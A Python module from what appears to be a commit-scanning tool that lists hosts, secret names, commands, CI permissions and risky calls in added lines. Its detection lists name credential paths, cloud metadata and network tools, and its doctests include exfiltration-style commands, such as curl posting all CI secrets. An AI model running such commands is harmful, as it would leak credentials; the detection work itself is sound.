"""What added lines say: commands, hosts, permissions, triggers, secrets named, dependencies, opaque content."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import NamedTuple

from collector.sources.git.commit import clean
from collector.sources.git.dependencies import dependencies_in, locked_in, scripts_in
from collector.sources.git.opaque import MAX_LOOK, opaque_in
from collector.sources.git.shell import commands_in

MAX_VALUES = 64
MAX_VALUE = 120
SENSITIVE = frozenset({"ci", "hook", "build", "manifest", "lock", "agent"})
_SCRIPTED = frozenset({"ci", "hook", "build", "agent"})
_CODE = frozenset({"source", "hook", "build", "ci", "manifest"})


class Added(NamedTuple):
    """The lines one commit added to one file, and those it took away."""

    path: str
    zone: str
    added: bytes
    """Without the leading plus signs."""
    deleted: bytes = b""
    new: bool = False


class Said:
    """Facts collected from a commit's files; each a set in order of appearance, bounded."""

    def __init__(self) -> None:
        self.values: dict[str, dict[str, None]] = {}
        self.longest_line = 0

    def add(self, fact: str, values: Iterable[str]) -> None:
        """Add values to a fact, up to its bound."""
        kept = self.values.setdefault(fact, {})
        for value in values:
            if len(kept) >= MAX_VALUES:
                return
            if value:
                kept[clean(value)[:MAX_VALUE]] = None

    def facts(self) -> dict[str, str | list[str]]:
        """Return the facts that have a value."""
        return {name: list(values) for name, values in self.values.items() if values}


def listen(file: Added, said: Said) -> None:
    """Add to `said` what the added lines of one file say."""
    if not file.added:
        return
    longest = max(map(len, file.added.split(b"\n")))
    said.longest_line = max(said.longest_line, longest)
    if file.zone != "lock":
        said.add("content.blob", (f"{shape} in {file.zone}" for shape in opaque_in(file.added, longest)))
    head = file.added[:MAX_LOOK]
    if file.zone in _CODE or file.path.endswith(_PAGES):
        _listen_to_code(head, file, said)
    if file.zone in SENSITIVE:
        _listen_closely(head.decode("utf-8", "replace"), file, said)


_PAGES = (".html", ".htm", ".vue", ".svelte", ".astro", ".php", ".erb", ".ejs")


def _listen_to_code(head: bytes, file: Added, said: Said) -> None:
    said.add("content.call", calls_in(head))
    said.add("content.import", imports_in(head))
    if file.zone == "source" and b"://" in head:
        said.add("content.source_host", hosts_in(head.decode("utf-8", "replace")))


def _listen_closely(text: str, file: Added, said: Said) -> None:
    if file.zone == "lock":
        said.add("content.locked", locked_in(file.path, text, file.deleted.decode("utf-8", "replace")))
        said.add("content.host", hosts_in(text))
        return
    if file.zone == "manifest":
        deleted = file.deleted.decode("utf-8", "replace")
        said.add("content.dependency", dependencies_in(file.path, text, deleted))
        scripts = scripts_in(file.path, text)
        said.add("content.script_key", scripts)
        said.add("content.command", (word for line in scripts.values() for word in commands_in(line, yaml=False)))
    said.add("content.host", hosts_in(text))
    said.add("content.secret", secrets_in(text))
    if file.zone in _SCRIPTED:
        yaml = file.path.endswith((".yml", ".yaml"))
        said.add("content.command", commands_in(text, yaml=yaml, prose=file.zone == "agent"))
    if file.zone == "ci":
        for fact, values in workflow_in(text):
            said.add(fact, values)


_HOST = re.compile(
    r"(?i)\b(?:https?|wss?|ftps?|ssh|git|tcp|udp)://(?:[^\s/@'\"<>]{1,200}@)?(\[[0-9a-f:.]{2,45}\]|[a-z0-9_][a-z0-9_.-]{0,252})"
)
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([A-Za-z0-9_.-]{1,253})/")
_FETCHED = re.compile(
    r"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|nc|ncat)\b[^\n|;&]{0,300}?[\s'\"]((?:[a-z0-9-]{1,63}\.){1,5}[a-z]{2,12})(?=[/:?'\"\s]|$)"
)
_ADDRESS = re.compile(r"^(?:\d{1,3}\.){3}\d{1,3}$|^\[.*\]$|^0x[0-9a-f]{6,8}$|^\d{8,10}$")
_PRIVATE = re.compile(r"^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0\.0\.0|\[::1?\])|^localhost$")


def hosts_in(text: str) -> Iterator[str]:
    """Yield the hosts of URLs, of `/dev/tcp`, and of arguments of curl and the like; of a bare address also that it is one.

    >>> list(hosts_in("curl -d @x http://45.9.8.7/a; wget -q pastes.example/x; see https://bob:pw@Git.example:8080"))
    ['45.9.8.7', 'a bare IP address', 'git.example', 'pastes.example']
    """
    if "://" not in text and "/dev/" not in text and "cur" not in text and "wget" not in text:
        return
    for pattern in (_HOST, _DEVICE, _FETCHED):
        for found in pattern.finditer(text):
            host = found[1].lower().rstrip(".")
            if _PRIVATE.match(host):
                yield "this machine or a private network"
                continue
            yield host
            if _ADDRESS.match(host):
                yield "a bare IP address"


_SECRET = re.compile(r"\bsecrets\s{0,3}(?:\.\s{0,3}([A-Za-z_]\w{0,80})|\[\s{0,3}['\"]([\w-]{1,80})['\"])")
_ALL_SECRETS = re.compile(r"(?i)tojson\s{0,3}\(\s{0,3}secrets\s{0,3}\)|\bsecrets:\s{0,3}inherit\b")
_SECRET_NAME = re.compile(
    r"\b[A-Z][A-Z0-9_]{0,60}(?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|ACCESS_KEY_ID|PRIVATE_KEY|CREDENTIALS)\b"
)


def secrets_in(text: str) -> Iterator[str]:
    """Yield the names of secrets referred to, never their values; all of them at once is a name of its own.

    >>> list(secrets_in("run: curl -d '${{ toJSON(secrets) }}' $NPM_TOKEN ${{ secrets.PYPI }}"))
    ['toJSON(secrets)', 'PYPI', 'NPM_TOKEN']
    """
    yield from ("".join(found[0].split()) for found in _ALL_SECRETS.finditer(text))
    yield from (found[1] or found[2] for found in _SECRET.finditer(text))
    yield from (found[0] for found in _SECRET_NAME.finditer(text))


_USES = re.compile(r"(?m)^\s*(?:-\s+)?[\"']?(?:uses|image|orb)[\"']?\s*:\s*[\"']?([\w./:@${}-]{1,200})")
_SHA = re.compile(r"^(?:sha256:)?[0-9a-f]{40,64}$")
_VERSION = re.compile(r"^v?\d")
_PERMISSION = re.compile(
    r"(?m)^\s*(actions|attestations|checks|contents|deployments|discussions|id-token|issues|models|packages|pages|"
    r"pull-requests|repository-projects|security-events|statuses)\s*:\s*(read|write|none|admin)\b"
)
_ALL_PERMISSIONS = re.compile(r"(?m)^\s*permissions\s*:\s*(write-all|read-all)\b")
_TRIGGERS = frozenset(
    """branch_protection_rule check_run check_suite create delete deployment deployment_status discussion
    discussion_comment fork gollum issue_comment issues label merge_group milestone page_build public pull_request
    pull_request_review pull_request_review_comment pull_request_target push registry_package release
    repository_dispatch schedule status watch workflow_call workflow_dispatch workflow_run""".split()
)
_TRIGGER_LINE = re.compile(r"(?m)^\s*(?:-\s+)?([a-z_]{4,30})\s*:?\s*(?:\[[^\]\n]*\])?\s*$")
_TRIGGER_LIST = re.compile(r"(?m)^[\"']?on[\"']?\s*:\s*\[?([^\]\n#]{1,300})")
_RUNNER = re.compile(r"(?m)^\s*runs-on\s*:\s*([^\n#]{1,80})")
_EXPRESSION = re.compile(r"\$\{\{([^}\n]{1,300})\}\}")
_UNTRUSTED = re.compile(r"\b(?:github|inputs|needs)\.[\w.*-]{1,100}")


def workflow_in(text: str) -> Iterator[tuple[str, list[str]]]:
    """Yield facts of a workflow: actions used, how they are pinned, permissions, triggers, runners, expressions."""
    refs = [found[1] for found in _USES.finditer(text)]
    yield "content.uses", [ref.partition("@")[0].lower() for ref in refs]
    yield "content.uses_ref", [_pin_of(ref) for ref in refs]
    yield "content.permission", [f"{found[1]}: {found[2]}" for found in _PERMISSION.finditer(text)]
    yield "content.permission", [found[1] for found in _ALL_PERMISSIONS.finditer(text)]
    yield "content.trigger", list(_triggers_in(text))
    yield "content.runner", [found[1].strip() for found in _RUNNER.finditer(text)]
    inside = " ".join(found[1] for found in _EXPRESSION.finditer(text))
    yield "content.expression", _UNTRUSTED.findall(inside)


def _triggers_in(text: str) -> Iterator[str]:
    for found in _TRIGGER_LINE.finditer(text):
        if found[1] in _TRIGGERS:
            yield found[1]
    for found in _TRIGGER_LIST.finditer(text):
        yield from (word for word in re.findall(r"[a-z_]+", found[1]) if word in _TRIGGERS)


def _pin_of(ref: str) -> str:
    name, _, version = ref.partition("@")
    if name.startswith("."):
        return "a local path"
    if not version:
        return "an image" if ":" in name else "nothing"
    if _SHA.match(version):
        return "a full SHA"
    return "a tag" if _VERSION.match(version) else "a branch"


_CALLS: tuple[tuple[bytes, str], ...] = (
    (b"eval(", "eval"),
    (b"exec(", "exec"),
    (b"exec.Command", "starts a process"),
    (b"execSync", "starts a process"),
    (b"execFile", "starts a process"),
    (b"spawn", "starts a process"),
    (b"child_process", "starts a process"),
    (b"os.system", "starts a process"),
    (b"subprocess", "starts a process"),
    (b"popen", "starts a process"),
    (b"Popen", "starts a process"),
    (b"Runtime.getRuntime", "starts a process"),
    (b"Process.Start", "starts a process"),
    (b"Command::new", "starts a process"),
    (b"proc_open", "starts a process"),
    (b"shell_exec", "starts a process"),
    (b"ShellExecute", "starts a process"),
    (b"unref()", "lets a process outlive it"),
    (b"detached: true", "lets a process outlive it"),
    (b"detached:true", "lets a process outlive it"),
    (b"new Function(", "makes code of text"),
    (b"Function('", "makes code of text"),
    (b'Function("', "makes code of text"),
    (b"compile(", "compile"),
    (b"__import__", "imports by name"),
    (b"importlib", "imports by name"),
    (b"marshal.loads", "loads a serialised object"),
    (b"pickle.load", "loads a serialised object"),
    (b"Marshal.load", "loads a serialised object"),
    (b"unserialize(", "loads a serialised object"),
    (b"b64decode", "decodes base64"),
    (b"atob(", "decodes base64"),
    (b"'base64'", "decodes base64"),
    (b'"base64"', "decodes base64"),
    (b"base64_decode", "decodes base64"),
    (b"decode64", "decodes base64"),
    (b"FromBase64String", "decodes base64"),
    (b"fromCharCode", "text from numbers"),
    (b"zlib.decompress", "decompresses"),
    (b"gunzipSync", "decompresses"),
    (b"inflate(", "decompresses"),
    (b"createDecipher", "decrypts"),
    (b"unescape(", "unescapes"),
    (b"decodeURIComponent(", "unescapes"),
    (b"_0x", "names of an obfuscator"),
    (b"XMLHttpRequest", "calls out"),
    (b"fetch(", "calls out"),
    (b"http.request", "calls out"),
    (b"https.request", "calls out"),
    (b"http.get(", "calls out"),
    (b"https.get(", "calls out"),
    (b"axios", "calls out"),
    (b"urlopen", "calls out"),
    (b"requests.", "calls out"),
    (b"http.Get(", "calls out"),
    (b"http.Post(", "calls out"),
    (b"Net::HTTP", "calls out"),
    (b"WebSocket(", "opens a socket"),
    (b"socket.", "opens a socket"),
    (b"net.connect", "opens a socket"),
    (b"net.Dial", "opens a socket"),
    (b"TcpStream::connect", "opens a socket"),
    (b"process.env", "reads the environment"),
    (b"os.environ", "reads the environment"),
    (b"getenv", "reads the environment"),
    (b"Getenv(", "reads the environment"),
    (b"/etc/passwd", "reads credentials"),
    (b".npmrc", "reads credentials"),
    (b".ssh/", "reads credentials"),
    (b"id_rsa", "reads credentials"),
    (b".aws/", "reads credentials"),
    (b".git-credentials", "reads credentials"),
    (b"169.254.169.254", "reads cloud metadata"),
    (b"homedir()", "reads the home folder"),
    (b"expanduser", "reads the home folder"),
    (b"navigator.language", "asks for the user's language"),
    (b"resolvedOptions()", "asks for the user's time zone"),
    (b"window.location", "sends the browser elsewhere"),
    (b"location.href", "sends the browser elsewhere"),
    (b"document.write", "writes into the page"),
    (b"document.createElement('script'", "writes into the page"),
    (b"<script", "a script in a page"),
    (b"<iframe", "a frame in a page"),
    (b"while (true)", "a loop without end"),
    (b"while(true)", "a loop without end"),
    (b"while True", "a loop without end"),
    (b"for (;;)", "a loop without end"),
    (b"< Infinity", "a loop without end"),
    (b"process.exit", "ends the process"),
    (b"os._exit", "ends the process"),
    (b"os.Exit(", "ends the process"),
    (b"rmSync", "deletes files"),
    (b"rmtree", "deletes files"),
    (b"unlinkSync", "deletes files"),
    (b"os.RemoveAll", "deletes files"),
    (b"chmod", "changes modes"),
    (b"crontab", "runs at set times"),
    (b"dlopen", "loads a library"),
    (b"ctypes", "loads a library"),
    (b"VirtualAlloc", "makes memory executable"),
    (b"mprotect", "makes memory executable"),
    (b"func init()", "runs when imported"),
    (b"__attribute__((constructor", "runs when imported"),
    (b"__attribute__((ifunc", "chooses code when loaded"),
    (b"cmdclass", "runs when installed"),
    (b"unsafe {", "unsafe code"),
    (b"unsafe.Pointer", "unsafe code"),
)


def calls_in(added: bytes) -> list[str]:
    """Return what added code is able to do, named by what it calls; how new that is decides, not the list.

    >>> calls_in(b"eval(atob(x))")
    ['eval', 'decodes base64']
    """
    return list(dict.fromkeys([name for needle, name in _CALLS if needle in added]))


_IMPORT_HINTS = (b"import", b"require", b"#include", b"use ", b"from ")
_IMPORT = re.compile(
    rb"(?m)^[ \t]*(?:from[ \t]+([\w.]{1,80})[ \t]+import|import[ \t]+([A-Za-z_][\w.]{0,80})|#[ \t]*include[ \t]*<([\w./+-]{1,80})>|"
    rb"(?:pub[ \t]+)?use[ \t]+([a-z_]\w{0,60})::|require[ \t]+['\"]([\w./-]{1,80})['\"])"
    rb"|(?:\brequire\(|\bfrom|\bimport\(?)[ \t]*['\"]([@\w][\w./@:-]{0,100})['\"]|^[ \t]*(?:[\w.]+[ \t]+)?\"([a-z0-9.-]+\.[a-z]{2,6}/[\w./-]{1,100}|[a-z]+/[a-z]+)\"[ \t]*$"
)


def imports_in(added: bytes) -> list[str]:
    """Return the modules that added code takes in from elsewhere, without their inner parts.

    >>> imports_in(b"import os.path\\nconst a = require('@x/y/z')\\nfrom 'https'\\nrequire('./b')")
    ['os', '@x/y', 'https']
    """
    if not any(hint in added for hint in _IMPORT_HINTS) and b'"' not in added:
        return []
    found = (next(filter(None, match.groups()), b"") for match in _IMPORT.finditer(added))
    return list(dict.fromkeys(_module_of(name.decode("utf-8", "replace")) for name in found if name))


def _module_of(name: str) -> str:
    parts = name.removeprefix("node:").split("/")
    if name.startswith("@"):
        return "/".join(parts[:2])
    if "." in parts[0] and len(parts) > 1:
        return "/".join(parts[:3])
    return parts[0].split(".")[0] if len(parts) == 1 else "/".join(parts[:2])
